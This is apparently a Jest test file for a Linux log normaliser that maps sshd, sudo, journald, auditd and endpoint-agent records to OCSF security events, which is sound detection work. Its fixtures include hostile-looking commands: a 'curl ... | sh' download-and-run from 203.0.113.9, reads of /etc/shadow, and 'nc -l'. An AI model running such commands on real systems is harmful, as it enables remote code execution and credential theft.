import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { NativeObject, NormalisedEvent } from '../source.js';
import { linux } from './index.js';

const read = (bytes: Buffer): NormalisedEvent[] =>
  linux.split(bytes).map((piece) => linux.normalise(JSON.parse(String(piece)) as NativeObject, piece));
const fixture = (name: string): NormalisedEvent[] => read(readFileSync(join(__dirname, 'fixtures', name)));
const AT = Date.UTC(2026, 10, 2, 9, 20, 0, 250);

describe('Linux', () => {
  it.each([
    ['Laurel', 0, AT + 40 * 60_000],
    ['Auditbeat', 1, AT],
    ['Sysmon', 2, AT],
  ])('reads a process creation of %s', (_, index, occurredAt) => {
    const event = fixture('events.jsonl')[index];
    expect(event).toMatchObject({
      occurredAt,
      entity: 'host:web1.example.test',
      ocsf: {
        categoryUid: 1,
        classUid: 1007,
        activityId: 1,
        device: { hostname: 'web1.example.test' },
        actor: {
          userName: 'www-data',
          processName: 'dash',
          processPath: '/usr/bin/dash',
          commandLine: 'sh -c curl -s http://203.0.113.9/a | sh',
          pid: 4101,
        },
      },
    });
    expect(event?.observables).toEqual(
      expect.arrayContaining([
        { kind: 'hostname', value: 'web1.example.test' },
        { kind: 'user-name', value: 'www-data' },
        { kind: 'process-name', value: 'dash' },
      ]),
    );
  });

  it.each<[string, object]>([
    [
      'sshd[5]: Accepted password for root from 192.0.2.7 port 5 ssh2',
      { ocsf: { classUid: 3002, activityId: 1, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    [
      '<38>Nov 28 05:00:01 web1 sshd[5]: Invalid user bob from 192.0.2.7 port 5',
      { ocsf: { classUid: 3002, actor: { userName: 'bob' } } },
    ],
    [
      'sshd[5]: Failed password for invalid user a from 10.0.0.1 port 1 ssh2 from 192.0.2.7 port 5 ssh2',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    ['sshd-session[5]: Disconnected from user ada 192.0.2.7 port 5', { ocsf: { classUid: 3002, activityId: 2 } }],
    [
      'sudo: ada : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { ocsf: { classUid: 1007, activityId: 1, message: 'sudo: /bin/sh' } },
    ],
    [
      'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ada(uid=1000)',
      { ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'root' } } },
    ],
    [
      'useradd[77]: new user: name=eve, UID=1001, GID=1001',
      { ocsf: { classUid: 3001, activityId: 1, actor: { userName: 'eve' } } },
    ],
    ["userdel[77]: delete user 'eve'", { ocsf: { classUid: 3001, activityId: 6 } }],
    [
      'sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 192.0.2.7 port 5 [preauth]',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    [
      'sshd[5]: Connection closed by 192.0.2.7 port 5',
      { ocsf: { classUid: 3002, activityId: 2, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root',
      { ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=x rhost=10.0.0.1',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: error: maximum authentication attempts exceeded for root from 192.0.2.7 port 5 ssh2 [preauth]',
      { ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      `sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 ${'x'.repeat(300)} 192.0.2.7 port 5 [preauth]`,
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      `sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 ${'x'.repeat(1_100)} 192.0.2.7 port 5 [preauth]`,
      { ocsf: { classUid: 3002, src: undefined } },
    ],
    ['vsftpd[5]: [x] FAIL LOGIN: Client "10.0.0.1"] FAIL LOGIN: Client "192.0.2.7"', { ocsf: { classUid: 0 } }],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser=x rhost=10.0.0.1 rhost=192.0.2.7',
      { ocsf: { classUid: 0 } },
    ],
    ['su[5]: FAILED su for root by ada', { ocsf: { classUid: 3002, actor: { userName: 'root' } } }],
    ['systemd-logind[5]: New session 7 of user ada.', { ocsf: { classUid: 3002, actor: { userName: 'ada' } } }],
    [
      "systemd-logind[5]: New session '7' of user 'ada' with class 'user' and type 'tty'.",
      { ocsf: { classUid: 3002, actor: { userName: 'ada' } } },
    ],
    ['systemd-logind[5]: New session c1 of user a.b.', { ocsf: { classUid: 3002, actor: { userName: 'a.b' } } }],
    [
      'su[5]: pam_unix(su:session): session closed for user ada',
      { ocsf: { classUid: 3002, activityId: 2, actor: { userName: 'ada' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:session): session opened for user ada(uid=1000) by (uid=0)',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' } } },
    ],
    [`sshd[5]: session opened for user ${'a'.repeat(65)}`, { ocsf: { classUid: 0 } }],
    [
      'useradd[5]: new user: name=ada, UID=1001, GID=1001, home=/srv/ada, shell=/bin/sh, from=none',
      { ocsf: { classUid: 3001, activityId: 1, actor: { userName: 'ada' } } },
    ],
    [
      'passwd[7]: pam_unix(passwd:chauthtok): password changed for ada',
      { ocsf: { classUid: 3001, activityId: 3, actor: { userName: 'ada' } } },
    ],
    ["passwd[5]: password for 'ada' changed by 'root'", { ocsf: { classUid: 3001, actor: { userName: 'ada' } } }],
    ["userdel[5]: delete user 'ada.'", { ocsf: { classUid: 3001, activityId: 6, actor: { userName: 'ada.' } } }],
    ['CRON[5]: (root) CMD (/usr/bin/run)', { ocsf: { classUid: 1007, actor: { userName: 'root' } } }],
    ["usermod[5]: add 'eve' to group 'sudo'", { ocsf: { classUid: 3006, activityId: 3, actor: { userName: 'eve' } } }],
    [
      'sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { ocsf: { classUid: 1007, actor: { userName: 'eve' } } },
    ],
    [
      'vsftpd[5]: [ada] FAIL LOGIN: Client "::ffff:192.0.2.7"',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      "<86>Nov 28 18:59:18 web22 dropbear[7]: Bad password attempt for 'root' from 192.0.2.7:5555",
      { ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7', port: 5_555 } } },
    ],
    [
      "dropbear[7]: Pubkey auth succeeded for 'ada' with ssh-ed25519 key SHA256:4Bap from [2001:db8::7]:5",
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '2001:db8::7', port: 5 } } },
    ],
    [
      "dropbear[7]: Login attempt for nonexistent user 'x' from 10.0.0.1:1' from 192.0.2.7:5",
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      "dropbear[7]: Exit before auth from <192.0.2.7:5>: (user 'root', 0 fails): Exited normally",
      { ocsf: { classUid: 3002, activityId: 2, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:22 mx dovecot: imap-login: Login: user=<ada>, method=PLAIN, rip=192.0.2.7, lip=10.0.0.2, TLS',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:22 mx dovecot: imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<a>, method=PLAIN, rip=10.0.0.1, lip=x>, method=PLAIN, rip=192.0.2.7, lip=10.0.0.2, session=<a>',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:22 mx dovecot: auth: pam(ada,192.0.2.7,<x1>): pam_authenticate() failed: Authentication failure',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:22 mx dovecot: imap-login: Disconnected (no auth attempts in 6 secs): user=<>, rip=192.0.2.7, lip=10.0.0.2',
      { ocsf: { classUid: 0 } },
    ],
    [
      '<22>Nov 28 18:59:23 mx postfix/smtpd[5]: warning: unknown[192.0.2.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:23 mx postfix/submission/smtpd[5]: warning: mail.example[192.0.2.7]: SASL PLAIN authentication failed: (reason unavailable), sasl_username=ada@example.test',
      { ocsf: { classUid: 3002, actor: { userName: 'ada@example.test' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:23 mx postfix/smtpd[5]: 4F1A2B3C: client=h.example[192.0.2.7], sasl_method=PLAIN, sasl_username=ada',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<22>Nov 28 18:59:23 mx postfix/smtpd[5]: connect from unknown[192.0.2.7]',
      { ocsf: { classUid: 4001, activityId: 1, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<85>Nov 28 18:59:26 esx01 Hostd[2099]: [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 1 : User root@192.0.2.7 logged in as User eve@10.0.0.1 logged in as x',
      { entity: 'host:esx01', ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<166>2026-11-28T18:59:27.123Z esx02.corp.example Hostd: info hostd[2099] [Originator@6876 sub=Default] Rejected password for user a from 10.0.0.1 from 192.0.2.7',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      "<14>2026-11-28T18:59:27.123Z esx02 vobd: [UserLevelCorrelator] 123us: [esx.audit.ssh.session.opened] SSH session was opened for 'root@192.0.2.7'.",
      { ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      '<86>Nov 28 18:59:11 web22 sshd[1]: Received disconnect from 192.0.2.7 port 5:11: Bye Bye [preauth]',
      { ocsf: { classUid: 3002, activityId: 2, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    [
      "<86>Nov 28 18:59:12 web22 login[5]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure",
      { ocsf: { classUid: 3002, actor: { userName: 'root' } } },
    ],
    ['su[44]: FAILED SU (to root) ada on pts/1', { ocsf: { classUid: 3002, actor: { userName: 'root' } } }],
    [
      '<4>Nov 28 18:59:08 web1 kernel: [ 1234.5678] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 SRC=192.0.2.7 DST=10.0.0.2 LEN=40 PROTO=TCP SPT=40000 DPT=22 WINDOW=1024',
      {
        entity: 'host:web1',
        ocsf: { classUid: 4001, activityId: 5, src: { ip: '192.0.2.7' }, dst: { ip: '10.0.0.2', port: 22 } },
      },
    ],
    ['kernel: IPTables: IN=eth0 OUT= SRC=192.0.2.7 DST=10.0.0.2 LEN=40 PROTO=ICMP', { ocsf: { classUid: 0 } }],
    ["myapp: Bad password attempt for 'root' from 192.0.2.7:5", { ocsf: { classUid: 0 } }],
    ['myapp: session opened for user root', { ocsf: { classUid: 0 } }],
    ['Accepted password for root from 192.0.2.7 port 5 ssh2', { ocsf: { classUid: 0 } }],
  ])('reads the line of a program, with a header or a tag alone: %s', (line, expected) =>
    expect(read(Buffer.from(line))).toMatchObject([expected]),
  );

  it.each<[string, NativeObject]>([
    ['bytes', { MESSAGE: [...Buffer.from('ada : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh -c \u001b[0m/etc/shadow')] }],
    ['bytes that are not UTF-8', { MESSAGE: [...Buffer.from('ada : TTY=pts/0 ; COMMAND=/etc/shadow \xff', 'latin1')] }],
    ['a name that stands twice', { MESSAGE: ['ada : TTY=pts/0 ; COMMAND=/etc/shadow', [...Buffer.from('\u001b')]] }],
    ['texts', { MESSAGE: 'ada : TTY=pts/0 ; COMMAND=/etc/shadow' }],
  ])("reads what systemd's journal has as %s", (_, message) => {
    const event = {
      __REALTIME_TIMESTAMP: '1793611200250000',
      SYSLOG_IDENTIFIER: 'sudo',
      _HOSTNAME: 'web1',
      ...message,
    };
    const made = linux.normalise(event, Buffer.from('{}'));
    expect(made).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:web1',
      ocsf: { classUid: 1007, actor: { userName: 'ada' } },
    });
    expect(made.ocsf.message).toContain('/etc/shadow');
  });

  it("takes what systemd's journal leaves out as it is", () => {
    const event = { MESSAGE: null, SYSLOG_IDENTIFIER: [...Buffer.from('su\u0007')], _COMM: 'su', _HOSTNAME: 'web1' };
    expect(linux.normalise(event, Buffer.from('{}'))).toMatchObject({ entity: 'host:web1', ocsf: { classUid: 0 } });
  });

  it('takes audit records as text, those of one event together', () => {
    const events = fixture('audit.log');
    expect(events).toHaveLength(3);
    expect(events[0]).toMatchObject({
      occurredAt: 1_793_613_600_250,
      entity: 'host:unknown',
      ocsf: {
        classUid: 1007,
        message: 'execve: sh -c curl -s http://203.0.113.9/a | sh',
        actor: { processName: 'dash', pid: 4101 },
      },
    });
    expect(events[1]).toMatchObject({ ocsf: { classUid: 4001, activityId: 1, dst: { ip: '203.0.113.9', port: 80 } } });
    expect(events[1]?.observables).toContainEqual({ kind: 'ip-address', value: '203.0.113.9' });
    expect(events[2]).toMatchObject({ ocsf: { classUid: 3001, activityId: 1 } });
  });

  it.each([
    `acct="ada" exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=failed'`,
    `id=1000 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=success'\x1dUID="root" AUID="ada" ID="ada"`,
  ])('names whom a logon in the audit log is of, not the program that says so: %s', (rest) => {
    const line = `type=USER_LOGIN msg=audit(1793613600.250:5): pid=5 uid=0 auid=4294967295 ses=1 msg='op=login ${rest}`;
    expect(read(Buffer.from(line))).toMatchObject([
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ]);
  });

  const TOLD = `pid=5 uid=0 auid=4294967295 ses=1 msg='op=PAM:setcred acct="ada" exe="/usr/sbin/sshd" addr=192.0.2.7 res=success'`;
  it.each<[string, NativeObject]>([
    ['in the journal', { MESSAGE: `CRED_ACQ ${TOLD}`, SYSLOG_IDENTIFIER: 'audit', _TRANSPORT: 'audit' }],
    ['by number, of the kernel', { message: `kernel: audit: type=1103 audit(1793613600.250:5): ${TOLD}` }],
    ['with names at its end', { message: `type=CRED_ACQ msg=audit(1793613600.250:5): ${TOLD}UID="root" AUID="unset"` }],
    ['behind a header', { message: `<85>Nov 28 18:59:05 web22 audit[2]: CRED_ACQ ${TOLD}` }],
    [
      'as Laurel has it',
      { ID: '1793613600.250:5', CRED_ACQ: { pid: 5, uid: 0, auid: 4_294_967_295, acct: 'ada', addr: '192.0.2.7' } },
    ],
    [
      'as Auditbeat has it',
      {
        auditd: { message_type: 'cred_acq', data: { acct: 'ada', addr: '192.0.2.7', op: 'PAM:setcred' } },
        user: { name: 'root' },
      },
    ],
  ])('reads a record of user space however it comes: %s', (_, event) => {
    const { ocsf } = linux.normalise(event, Buffer.from('{}'));
    expect(ocsf).toMatchObject({
      classUid: 3002,
      activityId: 99,
      actor: { userName: 'ada' },
      src: { ip: '192.0.2.7' },
    });
    expect(ocsf.actor?.userUid).toBeUndefined();
  });

  const SSHD = 'Accepted password for root from 203.0.113.9 port 22 ssh2';
  const SUDO = 'ada : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/sh';
  const SU = '(to root) ada on pts/0';
  const PACKET = '[UFW BLOCK] IN=eth0 OUT= MAC= SRC=203.0.113.9 DST=192.0.2.7 LEN=40 PROTO=TCP SPT=1 DPT=22';
  const [LOGIN, AUDITED] = [`USER_LOGIN ${TOLD}`, `type=USER_LOGIN msg=audit(1793613600.250:5): ${TOLD}`];
  it.each<[string, string, NativeObject, number]>([
    ['kernel', PACKET, { _TRANSPORT: 'kernel' }, 4001],
    ['kernel', PACKET, { _TRANSPORT: 'syslog', _UID: '1000', _COMM: 'logger' }, 0],
    ['kernel', PACKET, { _TRANSPORT: 'stdout', _UID: '1000', _COMM: 'kernel' }, 0],
    ['kernel', PACKET, { _TRANSPORT: 'journal', _COMM: 'python3' }, 0],
    ['kernel', PACKET, { _TRANSPORT: 'syslog', _UID: '0', _COMM: 'rsyslogd' }, 4001],
    ['kernel', PACKET, {}, 4001],
    ['ulogd', PACKET, { _TRANSPORT: 'syslog', _UID: '112', _COMM: 'ulogd' }, 4001],
    ['audit', LOGIN, { _TRANSPORT: 'audit', _UID: '1000' }, 3002],
    ['audit', LOGIN, { _TRANSPORT: 'syslog', _UID: '1000', _COMM: 'logger' }, 0],
    ['audit', LOGIN, { _TRANSPORT: 'journal', _UID: '1000', _COMM: 'audit' }, 0],
    ['audisp-syslog', AUDITED, { _TRANSPORT: 'syslog', _UID: '0', _COMM: 'audisp-syslog' }, 3002],
    ['x', AUDITED, { _TRANSPORT: 'syslog', _UID: 1000, _COMM: 'x' }, 0],
    ['sshd', SSHD, { _TRANSPORT: 'syslog', _UID: '0', _COMM: 'sshd', _EXE: '/usr/sbin/sshd' }, 3002],
    ['sshd', SSHD, { _UID: '1000', _COMM: 'sshd-session', _EXE: '/usr/lib/openssh/sshd-session' }, 3002],
    ['sshd-session', SSHD, { _UID: '1000', _COMM: 'sshd', _EXE: '/usr/sbin/sshd (deleted)' }, 3002],
    ['sshd', SSHD, { _TRANSPORT: 'syslog', _UID: '1000', _COMM: 'logger' }, 0],
    ['sshd', SSHD, { _TRANSPORT: 'syslog', _UID: '1000', _COMM: 'sshd', _EXE: '/usr/bin/python3.11' }, 0],
    ['sshd', SSHD, { _TRANSPORT: 'stdout', _UID: '1000', _COMM: 'conmon' }, 0],
    ['sshd', SSHD, { _TRANSPORT: 'syslog', _UID: '1000' }, 3002],
    ['sudo', SUDO, { _TRANSPORT: 'syslog', _UID: '1000', _COMM: 'sudo', _EXE: '/usr/bin/sudo' }, 1007],
    ['sudo', SUDO, { _UID: '1000', _COMM: '.sudo-wrapped', _EXE: '/nix/store/x/bin/.sudo-wrapped' }, 1007],
    ['sudo', SUDO, { _UID: '1000', _COMM: 'su', _EXE: '/usr/bin/su' }, 0],
    ['sudo', SUDO, { _UID: '1000', _COMM: 'logger' }, 0],
    ['su', SU, { _UID: '1000', _COMM: 'su', _EXE: '/bin/busybox' }, 3002],
    ['su', SU, { _UID: '1000', _COMM: 'logger', _EXE: '/usr/bin/logger' }, 0],
    ['su', SU, { _UID: '0', _COMM: 'logger' }, 3002],
  ])("believes that the journal's %s says %s: %j", (SYSLOG_IDENTIFIER, MESSAGE, event, classUid) => {
    const record = { SYSLOG_IDENTIFIER, MESSAGE, _HOSTNAME: 'web1', ...event };
    const { ocsf, entity } = linux.normalise(record, Buffer.from('{}'));
    expect([ocsf.classUid, entity]).toEqual([classUid, 'host:web1']);
    if (classUid === 0) expect([ocsf.actor?.userName, ocsf.src?.ip]).toEqual([undefined, undefined]);
  });

  it('reads what was done by sudo, and names nobody whom no account is of', () => {
    const cmd =
      'audit[2]: USER_CMD pid=2 uid=1000 auid=1000 ses=1 msg=\'cwd="/srv" cmd=636174202F61 terminal=pts/0 res=success\'';
    expect(read(Buffer.from(cmd))).toMatchObject([{ ocsf: { classUid: 1007, actor: { commandLine: 'cat /a' } } }]);
    const nobody = `type=USER_LOGIN msg=audit(1.2:3): uid=0 auid=4294967295 msg='acct=28756E6B6E6F776E207573657229 addr=192.0.2.7'`;
    expect(read(Buffer.from(nobody))[0]?.ocsf.actor?.userName).toBeUndefined();
  });

  it('reads who tried to log on, and from where', () => {
    expect(fixture('events.jsonl')[3]).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:web1.example.test',
      ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'admin' }, src: { ip: '203.0.113.9', port: 52_144 } },
    });
  });

  it('reads a log line, and lines with JSON behind a header', () => {
    expect(fixture('events.jsonl')[4]).toMatchObject({
      entity: 'host:web1.example.test',
      ocsf: { message: 'sudo: /usr/bin/cat /etc/shadow' },
    });
    expect(
      read(Buffer.from('<13>Nov  2 10:00:00 web1 laurel: {"type":"EXECVE","a0":"id","hostname":"web1"}\n')),
    ).toMatchObject([{ entity: 'host:web1', ocsf: { classUid: 1007 } }]);
    expect(read(Buffer.from('Nov  2 10:00:00 web1 app[3]: broken {json\n'))).toMatchObject([
      { entity: 'host:web1', ocsf: { classUid: 0 } },
    ]);
  });

  it("reads agents' feeds, whose times are counted", () => {
    const falcon = {
      aid: 'a1',
      ComputerName: 'host1',
      timestamp: '1793611200250',
      event_simpleName: 'ProcessRollup2',
      ImageFileName: '/usr/bin/nc',
      CommandLine: 'nc -l',
      UserName: 'ada',
    };
    expect(linux.normalise(falcon, Buffer.from('{}'))).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:host1',
      ocsf: { classUid: 1007, actor: { userName: 'ada', processName: 'nc' } },
    });
    const osquery = {
      name: 'process_events',
      hostIdentifier: 'host1',
      unixTime: 1_793_611_200,
      columns: { path: '/usr/bin/nc', cmdline: 'nc -l' },
    };
    expect(linux.normalise(osquery, Buffer.from('{}'))).toMatchObject({
      occurredAt: 1_793_611_200_000,
      entity: 'host:host1',
      ocsf: { classUid: 1007 },
    });
  });
});
